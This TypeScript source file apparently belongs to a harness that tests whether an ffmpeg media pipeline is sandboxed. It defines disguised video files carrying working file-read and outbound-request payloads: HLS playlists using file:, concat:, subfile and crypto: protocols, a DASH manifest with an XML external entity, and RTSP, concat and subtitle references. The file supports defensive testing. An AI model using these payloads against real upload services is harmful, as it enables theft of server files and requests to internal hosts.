import type { Attack } from '../attack.ts'
import type { Canary } from '../canary.ts'
import { head } from '../ebml.ts'
import { boxOf, ftyp } from '../mp4.ts'

/** Texts that an unfenced ffmpeg follows to where they point. */
const playlists: Record<string, (canary: Canary) => string> = {
  'HLS of a file': ({ file }) => hls(`file://${file}`),
  'HLS of a path': ({ file }) => hls(file),
  'HLS of a URL': ({ url }) => hls(`${url}/segment.ts`),
  'HLS of a concatenation': ({ file, url }) => hls(`concat:${url}/header|file:${file}`),
  'HLS of a part of a file': ({ file }) => hls(`subfile,,start,0,end,99,,:${file}`),
  'HLS of an encrypted file': ({ file }) =>
    hls(`crypto:file://${file}`, `#EXT-X-KEY:METHOD=AES-128,URI="file://${file}",IV=0x${'00'.repeat(16)}\n`),
  'HLS of inline data that leads on': ({ url }) =>
    hls(`data:application/x-mpegurl;base64,${Buffer.from(hls(`${url}/inner.ts`)).toString('base64')}`),
  'HLS with an initialisation section': ({ url, file }) =>
    hls(`${url}/segment.m4s`, `#EXT-X-MAP:URI="file://${file}"\n`),
  'an HLS master playlist': ({ url }) =>
    `#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",URI="${url}/audio.m3u8"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n${url}/video.m3u8\n`,
  'a DASH manifest': ({ url, file }) => dash(`${url}/dash.mp4`, `file://${file}`),
  'a session description': ({ port }) =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:rtsp://127.0.0.1:${port}/\nm=audio ${port} RTP/AVP 14\n`,
  'a concat script': ({ file, url }) => `ffconcat version 1.0\nfile ${file}\nfile ${url}/concat.mp4\n`,
  'a Smooth Streaming manifest': ({ url }) =>
    `<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2"><StreamIndex Type="audio" Url="${url}/{bitrate}"/></SmoothStreamingMedia>`,
  'a reference to RTSP': ({ port }) => `RTSPtextRTSP://127.0.0.1:${port}/x\nrtsp://127.0.0.1:${port}/x\n`,
  'a redirection of Windows Media': ({ url }) => `[Reference]\nRef1=${url}/x.asf\n`,
  'subtitles that name a file': ({ file }) => `[Script Info]\n[Fonts]\nfontname: ${file}\n`,
}

const hls = (uri: string, before = ''): string =>
  `#EXTM3U\n#EXT-X-VERSION:4\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n${before}#EXTINF:10.0,\n${uri}\n#EXT-X-ENDLIST\n`

const dash = (...urls: string[]): string =>
  `<?xml version="1.0"?>
<!DOCTYPE MPD [<!ENTITY leak SYSTEM "${urls[1]}">]>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Location>${urls[0]}</Location><Period>
<AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>${urls[0]}</BaseURL>&leak;</Representation></AdaptationSet>
</Period></MPD>`

const endings = ['mp4', 'avi', 'mkv', 'mov', 'webm']

const bare: Attack[] = Object.entries(playlists).map(([what, make], index) => ({
  what,
  filename: `holiday.${endings[index % endings.length]}`,
  make: (canary) => Buffer.from(make(canary)),
  ends: ['NOT_MEDIA'],
}))

/** Beginnings that pass for a video of each kind. */
const beginnings: Record<string, (text: Buffer) => Buffer> = {
  mp4: (text) => Buffer.concat([ftyp, text]),
  mov: (text) => boxOf('wide', text),
  avi: (text) => Buffer.concat([Buffer.from('RIFF\0\0\0\0AVI ', 'latin1'), text]),
  mkv: (text) => Buffer.concat([head(), text]),
  webm: (text) => Buffer.concat([head('webm'), text]),
}

const everyPlaylist = (canary: Canary): Buffer =>
  Buffer.from(
    Object.values(playlists)
      .map((make) => make(canary))
      .join('\n'),
  )

const disguised: Attack[] = Object.entries(beginnings).map(([ending, disguise]) => ({
  what: `all of these behind the beginning of a real ${ending}`,
  filename: `holiday.${ending}`,
  make: (canary) => disguise(everyPlaylist(canary)),
  ends: ['CORRUPT', 'TRUNCATED'],
}))

export const playlistAttacks: Attack[] = [...bare, ...disguised]
